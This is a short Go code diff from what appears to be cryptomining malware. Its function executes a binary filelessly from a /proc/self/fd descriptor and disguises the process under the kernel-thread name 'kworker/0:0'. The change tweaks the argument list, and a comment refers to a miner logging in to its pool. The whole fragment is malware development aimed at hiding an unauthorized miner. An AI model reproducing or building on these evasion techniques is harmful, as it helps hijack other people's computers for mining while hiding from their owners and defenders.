@@ -162,7 +162,7 @@ func execNameless(role, dir string) error {
 			return err
 		}
 	}
-	return unix.Exec(fmt.Sprintf("/proc/self/fd/%d", fd), []string{"kworker/0:0"}, nil)
+	return unix.Exec(fmt.Sprintf("/proc/self/fd/%d", fd), []string{"true", "kworker/0:0"}, nil)
 }
 
 // login is the first line of a miner to its pool.
